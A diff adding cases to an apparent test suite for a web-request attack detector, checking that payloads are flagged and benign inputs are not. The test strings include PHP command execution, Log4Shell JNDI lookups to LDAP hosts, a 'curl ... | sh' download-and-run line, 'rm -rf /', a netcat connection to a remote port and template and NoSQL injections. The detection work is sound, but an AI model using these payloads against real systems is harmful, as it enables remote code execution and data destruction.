@@ -351,6 +351,14 @@ describe('places where people write for people', () => {
       "Please read this note about the release <?php system('id'); ?> today, thank you very much.",
     ],
     [
+      'a script of the server with a command',
+      'Please read this note about the release <?php echo `id`; ?> today, thank you very much.',
+    ],
+    [
+      'a look-up with a long address',
+      'Please read this note about the release ${jndi:ldap://[2001:db8::1]:1389/a} today, thank you very much.',
+    ],
+    [
       'a download that runs',
       'Please read this note about the release; curl http://203.0.113.6/x | sh; thank you very much.',
     ],
@@ -393,6 +401,19 @@ describe('those who run containers', () => {
   });
 });
 
+test('a path that is chosen excuses fields alone that its purpose reads', async () => {
+  const form = (path: string, body: string) =>
+    `POST ${path} HTTP/1.1\nHost: shop.firma.example\nContent-Type: application/x-www-form-urlencoded\n\n${body}`;
+  expect(await isFlagged(form('/careers/jobs/7', 'name=x; rm -rf /'))).toBe(true);
+  expect(await isFlagged(form('/builds/7', 'host=1.2.3.4;nc\t203.0.113.4 4444'))).toBe(true);
+  for (const value of ['127.0.0.1;id', 'phpinfo()', '{{7*7}}']) {
+    expect(await isFlagged(`GET /app/api/v1/rules?host=${value} HTTP/1.1\nHost: a.example`)).toBe(true);
+  }
+  const question = encodeURIComponent('sum(rate(http_requests_total{code=~"5.."}[5m])) by (job)');
+  expect(await isFlagged(`GET /api/v1/query?query=${question} HTTP/1.1\nHost: a.example`)).toBe(false);
+  expect(await isFlagged('GET /api/v1/query?query=127.0.0.1;id HTTP/1.1\nHost: a.example')).toBe(true);
+});
+
 test('a body behind a blank line is one without headers, too', () => {
   expect(ids('POST /api/search HTTP/1.1\n\n{"filter":{"$where":"sleep(5000)||true"}}')).toContain(
     'web-nosql-operator',
@@ -414,6 +435,9 @@ test('names that a query declares are no operators', () => {
 
 test('values of a shell instead of missing ones are no look-ups', () => {
   expect(ids(post('/api/notes', { text: 'rm -rf ${DIR:?}' }))).not.toContain('web-java-log4shell');
+  expect(ids(post('/api/notes', { text: '${PORT:-8080}' }))).not.toContain('web-java-ognl');
+  for (const expression of ['${user.age - 7}', '${user.role=1}', '${x:-${a.b(1)}}'])
+    expect(ids(post('/api/notes', { text: expression }))).toContain('web-java-ognl');
   for (const hidden of [
     '${${::-j}${::-n}di:ldap://x.example/a}',
     '${${env:X:-j}ndi:rmi://x.example/a}',
